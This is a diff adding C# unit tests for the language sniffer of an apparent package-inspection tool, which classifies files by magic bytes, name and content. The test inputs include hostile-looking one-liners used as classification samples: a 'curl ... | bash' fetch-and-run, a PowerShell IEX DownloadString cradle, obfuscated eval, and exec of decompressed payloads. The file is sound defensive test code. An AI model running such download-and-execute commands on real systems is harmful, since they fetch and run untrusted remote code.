@@ -1,0 +1,48 @@
+using System.Text;
+using PackageWall.Inspection.Languages;
+
+namespace PackageWall.Inspection.Tests.Languages;
+
+/// <summary>What a file is: by its bytes first, then by its name, then by what it reads like.</summary>
+public sealed class LanguageSnifferTests
+{
+    [Theory]
+    [InlineData("a/b.py", "x = 1", Language.Python)]
+    [InlineData("b.mjs", "x", Language.JavaScript)]
+    [InlineData("b.tsx", "x", Language.JavaScript)]
+    [InlineData("x.pth", "import os", Language.Pth)]
+    [InlineData("build/A.targets", "<Project/>", Language.MsBuild)]
+    [InlineData("tools/init.ps1", "", Language.PowerShell)]
+    [InlineData("binding.gyp", "{}", Language.Gyp)]
+    [InlineData("package.json", "{}", Language.Json)]
+    [InlineData("run", "#!/usr/bin/env python3\nx", Language.Python)]
+    [InlineData("bin/cli", "#!/usr/bin/env node\nx", Language.JavaScript)]
+    [InlineData("install", "#!/bin/sh -e\nx", Language.Shell)]
+    [InlineData("LICENSE", "Permission is hereby granted, free of charge, to any person", Language.Text)]
+    [InlineData("README.md", "# Title\n\nInstall it with pip and import it.", Language.Text)]
+    [InlineData("notes.txt", "import os\nimport sys\ndef f(x):\n    return x\n", Language.Python)]
+    [InlineData("data.txt", "const fs = require('fs');\nmodule.exports = { a: 1 };", Language.JavaScript)]
+    public void Files(string path, string text, string language) =>
+        LanguageSniffer.Sniff(path, Encoding.UTF8.GetBytes(text)).ShouldBe(language);
+
+    [Theory]
+    [InlineData("import os;os.system('x')", Language.Python)]
+    [InlineData("exec(__import__('zlib').decompress(b'x'))", Language.Python)]
+    [InlineData("const a = require('child_process').exec('x')", Language.JavaScript)]
+    [InlineData("!function(){var _0x12ab=1;eval(_0x12ab)}()", Language.JavaScript)]
+    [InlineData("curl -s https://a.invalid/x | bash", Language.Shell)]
+    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://a.invalid')", Language.PowerShell)]
+    [InlineData("Dear reader, this is a text. It imports nothing.", Language.Text)]
+    [InlineData("{\"a\": [1, 2], \"import\": \"os\"}", Language.Json)]
+    public void Layers(string text, string language) =>
+        LanguageSniffer.SniffLayer(Encoding.UTF8.GetBytes(text)).ShouldBe(language);
+
+    [Fact]
+    public void Bytes_win_over_names()
+    {
+        LanguageSniffer.Sniff("x.txt", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0]).ShouldBe(Language.Native);
+        LanguageSniffer.Sniff("x.py", [0, (byte)'a', (byte)'s', (byte)'m', 1, 0, 0, 0]).ShouldBe(Language.Native);
+        LanguageSniffer.Sniff("x.png", [0x50, 0x4B, 3, 4, 0, 0]).ShouldBe(Language.Archive);
+        LanguageSniffer.Sniff("x.js", File.ReadAllBytes(typeof(LanguageSniffer).Assembly.Location)).ShouldBe(Language.DotNet);
+    }
+}
